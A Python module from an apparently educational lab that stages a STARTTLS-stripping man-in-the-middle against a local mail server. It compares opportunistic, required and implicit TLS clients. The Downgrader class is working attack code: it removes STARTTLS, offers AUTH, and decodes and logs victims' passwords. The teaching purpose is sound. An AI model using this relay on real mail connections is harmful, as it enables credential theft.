"""A STARTTLS downgrade, staged in the lab: a man in the middle, and the clients it fools.

:class:`Downgrader` is a relay an attacker puts between a mail program and the lab's
submission role. It forwards the dialogue, but removes ``STARTTLS`` from the server's
EHLO reply and advertises ``AUTH`` itself, as real attackers do (RFC 3207 section 6 warns
of exactly this). A client with **opportunistic** TLS (STARTTLS only when offered) then
logs in over the unprotected connection: the attacker reads the password, and completes
the session upstream with STARTTLS and the stolen login, so the victim sees success. A
client that **requires** TLS refuses to go on without STARTTLS. In front of the
**implicit-TLS** role (port 465, RFC 8314) there is nothing to strip: TLS starts with the
first byte, and the relay can only pass encrypted records along.

:func:`submit` is the mail program, with its TLS policy; :func:`run_scenario` runs one
submission (plain, STARTTLS or implicit TLS; TLS required or not; attacker on or off)
inside a capture and says whether the password was exposed on the wire.

The relay reaches the lab as the lab's own user, so it serves that user only: a
connection of another local user is closed at accept
(:func:`labsupport.core.peers.check_socket`) and noted in its log.

Introduced in ``notebooks/03-starttls-vs-implicit-tls.ipynb``.
"""

from __future__ import annotations

import base64
import socket
import ssl
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Protocol

from ..core.errors import LabError
from ..core.peers import check_socket
from ..core.results import Result, TraceBuilder
from ..dns.nameserver import DNSServer
from ..wire.capture import CONVENTIONAL_PORTS, ROLE_ADDRESSES, Capture, Target, capture
from ..wire.tls import LabCA
from .accounts import Accounts
from .server import MailServer
from .smtp import SMTPClientError, SMTPSession, Transcript


class Lab(Protocol):
    """What the downgrade scenario needs of a lab (:class:`labsupport.lab.lab.Lab` has it):
    its mail server, its accounts and its CA, plus what a capture needs."""

    @property
    def smtp(self) -> MailServer: ...

    @property
    def accounts(self) -> Accounts: ...

    @property
    def ca(self) -> LabCA: ...

    @property
    def dns(self) -> DNSServer: ...

    @property
    def state_dir(self) -> Path: ...

#: The TLS policies of :func:`submit`.
POLICIES = ("plain", "opportunistic", "required", "implicit")
#: The ways to submit in :func:`run_scenario`, and the lab role each one uses.
MODES = {"plain": "legacy", "starttls": "submission", "implicit": "submissions"}


@dataclass(frozen=True)
class Stolen:
    """A login the attacker read: mechanism, user name and password."""

    mechanism: str
    user: str
    password: str


def _unb64(text: str) -> str:
    try:
        return base64.b64decode(text.strip(), validate=True).decode("utf-8", errors="replace")
    except ValueError:
        return ""


class _Lines:
    """Line reading on a socket that may be swapped for its TLS wrapper."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.buf = b""

    def line(self) -> bytes:
        while b"\r\n" not in self.buf:
            chunk = self.sock.recv(65536)
            if not chunk:
                rest, self.buf = self.buf, b""
                return rest
            self.buf += chunk
        line, self.buf = self.buf.split(b"\r\n", 1)
        return line + b"\r\n"

    def reply(self) -> list[bytes]:
        lines: list[bytes] = []
        while True:
            line = self.line()
            if not line:
                return lines
            lines.append(line)
            if line[3:4] != b"-":
                return lines

    def send(self, data: bytes) -> None:
        self.sock.sendall(data)


class Downgrader:
    """The attacker's relay in front of a lab role (a context manager).

    ``role="submission"``: strip STARTTLS, offer AUTH, read the login, finish upstream
    inside TLS. ``role="submissions"``: TLS from the first byte; the relay passes the
    encrypted bytes on and reads nothing. ``stolen`` holds what it read, ``log`` what
    it did.
    """

    def __init__(self, lab: Lab, role: str = "submission") -> None:
        if role not in ("submission", "submissions", "legacy"):
            raise LabError(f"role={role!r}: the attacker stands in front of submission, "
                           "submissions or legacy")
        self.lab = lab
        self.role = role
        self.upstream_port = lab.smtp.port(role)
        self.stolen: list[Stolen] = []
        self.log: list[str] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.settimeout(0.2)
        self.port = int(self._listener.getsockname()[1])
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []
        self._thread = threading.Thread(target=self._accept, name="mitm", daemon=True)
        self._thread.start()

    def target(self) -> Target:
        """What a capture should watch: the victim's connection to the attacker, shown
        with the real server's address and port (the victim believes it is talking to it)."""
        return Target("attacker", self.port, CONVENTIONAL_PORTS[self.role],
                      ROLE_ADDRESSES[self.role])

    def __enter__(self) -> Downgrader:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def close(self) -> None:
        self._stop.set()
        self._listener.close()
        self._thread.join(1)
        for thread in self._threads:
            thread.join(2)

    def _note(self, text: str) -> None:
        self.log.append(text)

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                victim, _ = self._listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            try:
                check = check_socket(victim)
            except OSError:
                victim.close()  # gone already
                continue
            if not check.allowed:
                self._note(f"refused a connection: {check.summary}")
                victim.close()
                continue
            victim.settimeout(10)
            handler: Callable[[socket.socket], None] = (
                self._pass_through if self.role == "submissions" else self._strip)
            thread = threading.Thread(target=self._guarded, args=(handler, victim), daemon=True)
            thread.start()
            self._threads.append(thread)

    def _guarded(self, handler: Callable[[socket.socket], None], victim: socket.socket) -> None:
        try:
            handler(victim)
        except (OSError, ssl.SSLError) as exc:
            self._note(f"connection ended: {exc}")
        finally:
            victim.close()

    def _pass_through(self, victim: socket.socket) -> None:
        """Implicit TLS: nothing to strip; relay the encrypted bytes unread."""
        self._note("implicit TLS: the first bytes are a TLS ClientHello; nothing to strip, "
                   "only encrypted records to pass on")
        upstream = socket.create_connection(("127.0.0.1", self.upstream_port), timeout=10)
        done = threading.Event()

        def pump(src: socket.socket, dst: socket.socket) -> None:
            try:
                while data := src.recv(65536):
                    dst.sendall(data)
            except OSError:
                pass
            try:
                dst.shutdown(socket.SHUT_WR)
            except OSError:
                pass
            done.set()

        other = threading.Thread(target=pump, args=(upstream, victim), daemon=True)
        other.start()
        pump(victim, upstream)
        other.join(10)
        upstream.close()

    def _strip(self, victim_sock: socket.socket) -> None:
        """STARTTLS stripping (RFC 3207 section 6)."""
        victim = _Lines(victim_sock)
        up = _Lines(socket.create_connection(("127.0.0.1", self.upstream_port), timeout=10))
        upgraded = False
        victim.send(b"".join(up.reply()))  # the real banner
        while True:
            line = victim.line()
            if not line:
                break
            words = line.decode("utf-8", errors="replace").split()
            verb = words[0].upper() if words else ""
            if verb in ("EHLO", "HELO"):
                if not upgraded:
                    up.send(line)
                    first = up.reply()
                    if any(b"STARTTLS" in x.upper() for x in first):
                        up.send(b"STARTTLS\r\n")
                        answer = up.reply()
                        if answer and answer[0].startswith(b"220"):
                            context = ssl.create_default_context()
                            context.check_hostname = False
                            context.verify_mode = ssl.CERT_NONE
                            up.sock = context.wrap_socket(up.sock)
                            upgraded = True
                            self._note("upstream: STARTTLS with the real server (the "
                                       "attacker's side of the session is encrypted)")
                    if upgraded:
                        up.send(line)
                        reply = up.reply()
                    else:
                        reply = first
                else:
                    up.send(line)
                    reply = up.reply()
                victim.send(self._doctor(reply))
                self._note("to the victim: STARTTLS removed from the EHLO reply, AUTH offered")
            elif verb == "STARTTLS":
                victim.send(b"454 4.7.0 TLS not available due to temporary reason\r\n")
                self._note("the victim asked for STARTTLS anyway: answered 454")
            elif verb == "AUTH":
                self._auth(words, line, victim, up)
            elif verb == "DATA":
                up.send(line)
                reply = up.reply()
                victim.send(b"".join(reply))
                if reply and reply[0].startswith(b"354"):
                    while True:
                        data = victim.line()
                        if not data:
                            return
                        up.send(data)
                        if data == b".\r\n":
                            break
                    victim.send(b"".join(up.reply()))
            else:
                up.send(line)
                reply = up.reply()
                victim.send(b"".join(reply))
                if verb == "QUIT":
                    break
        up.sock.close()

    def _auth(self, words: list[str], line: bytes, victim: _Lines, up: _Lines) -> None:
        mechanism = words[1].upper() if len(words) > 1 else ""
        responses: list[str] = []
        if len(words) > 2:
            responses.append(words[2])
        up.send(line)
        reply = up.reply()
        while reply and reply[0].startswith(b"334"):
            victim.send(b"".join(reply))
            answer = victim.line()
            responses.append(answer.decode("utf-8", errors="replace").strip())
            up.send(answer)
            reply = up.reply()
        victim.send(b"".join(reply))
        if mechanism == "PLAIN" and responses:
            parts = _unb64(responses[0]).split("\0")
            if len(parts) == 3:
                self.stolen.append(Stolen("PLAIN", parts[1], parts[2]))
        elif mechanism == "LOGIN" and len(responses) >= 2:
            self.stolen.append(Stolen("LOGIN", _unb64(responses[0]), _unb64(responses[1])))
        if self.stolen:
            self._note(f"read the victim's login: {self.stolen[-1].user} / "
                       f"{self.stolen[-1].password}")

    @staticmethod
    def _doctor(reply: list[bytes]) -> bytes:
        """The EHLO reply without STARTTLS, with AUTH, hyphens put right (RFC 5321 4.2)."""
        texts = [x.decode("utf-8", errors="replace").rstrip("\r\n") for x in reply]
        if not texts or not texts[0].startswith("250"):
            return b"".join(reply)
        body = [t[4:] for t in texts]
        body = [b for b in body if b.upper() != "STARTTLS"]
        if not any(b.upper().startswith("AUTH") for b in body):
            body.insert(min(len(body), 4), "AUTH PLAIN LOGIN")
        out = [f"250{'-' if i < len(body) - 1 else ' '}{b}\r\n" for i, b in enumerate(body)]
        return "".join(out).encode()


# -- the victim's mail program -----------------------------------------------------------


def submit(host: str, port: int, *, policy: str, user: str, password: str, rcpt: str,
           message: str, ca_file: str | Path | None = None, verify: bool = True,
           keylog_file: str | Path | None = None, timeout: float = 10.0) -> Transcript:
    """Submit one message as a mail program with a TLS ``policy`` would.

    ``"plain"``: no TLS at all (the legacy role). ``"opportunistic"``: STARTTLS when the
    EHLO reply offers it, otherwise carry on without. ``"required"``: STARTTLS or nothing
    (RFC 8314 section 5.2 asks mail programs for this). ``"implicit"``: TLS from the
    first byte. Returns the transcript; the verdict is ``"accepted"``, ``"refused"``
    (the client would not go on without TLS) or ``"failed"``.
    """
    if policy not in POLICIES:
        raise LabError(f"policy={policy!r}: use one of {', '.join(POLICIES)}")
    session = SMTPSession(host, port, implicit_tls=policy == "implicit", ca_file=ca_file,
                          verify=verify, keylog_file=keylog_file, timeout=timeout)
    trace = TraceBuilder()
    verdict, summary = "failed", ""
    try:
        session.connect()
        session.ehlo("laptop.northwind.test")
        if policy in ("opportunistic", "required"):
            if session.has_extension("STARTTLS"):
                reply = session.starttls()
                if reply.code == 220:
                    session.ehlo("laptop.northwind.test")
                elif policy == "required":
                    raise _Refuse(f"STARTTLS was refused ({reply.first_line})")
            elif policy == "required":
                raise _Refuse("the server does not offer STARTTLS")
            else:
                session.note("no STARTTLS offered: carrying on without TLS (opportunistic)")
        if not session.tls_active and policy != "plain":
            trace.add("AUTH without TLS", kind="warning")
        reply = session.auth_plain(user, password)
        if not reply.is_positive:
            raise _Stop(f"AUTH refused: {reply.first_line}")
        if not session.mail(user).is_positive or not session.rcpt(rcpt).is_positive:
            raise _Stop("the server refused the envelope")
        reply = session.data(message)
        if reply.is_positive:
            verdict, summary = "accepted", f"The message was accepted: {reply.first_line}."
        else:
            summary = f"The message was refused: {reply.first_line}."
        session.quit()
    except _Refuse as exc:
        session.note(f"REFUSING to log in: {exc}; this client requires TLS")
        verdict = "refused"
        summary = (f"The client refused to go on: {exc}. It requires TLS, so the password "
                   "never left it.")
        try:
            session.quit()
        except SMTPClientError:
            pass
    except _Stop as exc:
        summary = str(exc)
    except SMTPClientError as exc:
        summary = f"The dialogue could not be completed: {exc}."
    finally:
        session.close()
    trace.add(summary, kind="ok" if verdict == "accepted" else "warning")
    base = session.transcript
    return Transcript(verdict=verdict, summary=summary, trace=base.trace + trace.freeze(),
                      host=host, port=port, lines=base.lines, replies=base.replies)


class _Refuse(Exception):
    pass


class _Stop(Exception):
    pass


# -- one scenario, captured -------------------------------------------------------------


@dataclass(frozen=True, kw_only=True)
class Scenario(Result):
    """One submission inside a capture: what the client saw, what the wire showed."""

    mode: str
    policy: str
    attacker: bool
    transcript: Transcript
    capture: Capture = field(repr=False)
    stolen: tuple[Stolen, ...] = ()
    password_exposed: bool = False
    attacker_log: tuple[str, ...] = ()

    def title(self) -> str:
        who = "with an attacker in the middle" if self.attacker else "no attacker"
        return (f"{self.mode}, TLS {self.policy}, {who}: password exposed: "
                f"{'yes' if self.password_exposed else 'no'}")


def run_scenario(lab: Lab, mode: str = "starttls", *, require_tls: bool = False,
                 attacker: bool = False, capture_mode: str = "auto",
                 user: str = "alice@northwind.test", rcpt: str = "carol@campus.test",
                 keylog_file: str | Path | None = None,
                 path: str | Path | None = None) -> Scenario:
    """Submit one message (``mode`` plain, starttls or implicit) as ``user`` inside a
    capture, with or without the attacker, and report whether the password was exposed:
    whether it can be read from the capture without any key.

    ``require_tls`` makes the client insist on TLS (STARTTLS or nothing); with implicit
    TLS it changes nothing. The capture watches the victim's side of the conversation.
    """
    if mode not in MODES:
        raise LabError(f"mode={mode!r}: use one of {', '.join(MODES)}")
    role = MODES[mode]
    if role == "legacy":
        lab.smtp.enable_legacy()
    if mode == "implicit":
        policy = "implicit"
    elif require_tls:
        policy = "required"  # on the legacy role too: no STARTTLS there, so it refuses
    else:
        policy = "plain" if mode == "plain" else "opportunistic"
    account = lab.accounts.get(user)
    if account is None:
        raise LabError(f"{user} is not a lab account; see lab.accounts")
    mitm: Downgrader | None = Downgrader(lab, role) if attacker else None
    try:
        watched: str | Target = mitm.target() if mitm is not None else role
        name = "attacker" if mitm is not None else role
        with capture(lab, watched, mode=capture_mode, dns=False, path=path) as cap:
            transcript = submit("127.0.0.1", cap.port(name), policy=policy,
                                user=account.address, password=account.password, rcpt=rcpt,
                                message=f"From: {user}\r\nTo: {rcpt}\r\nSubject: lab 03\r\n\r\n"
                                        "Meet at noon.\r\n",
                                ca_file=lab.ca.ca_file, keylog_file=keylog_file)
    finally:
        if mitm is not None:
            mitm.close()
    seen = cap.dialogue().credentials() if cap.connections() else []
    exposed = account.password in seen
    stolen = tuple(mitm.stolen) if mitm else ()
    summary = transcript.summary + (
        " The password crossed the wire readable (see the capture)." if exposed else
        " No password can be read from the capture.")
    return Scenario(verdict="exposed" if exposed else "safe", summary=summary,
                    trace=transcript.trace, mode=mode, policy=policy, attacker=attacker,
                    transcript=transcript, capture=cap, stolen=stolen,
                    password_exposed=exposed,
                    attacker_log=tuple(mitm.log) if mitm else ())


__all__ = ["Downgrader", "MODES", "POLICIES", "Scenario", "Stolen", "run_scenario", "submit"]
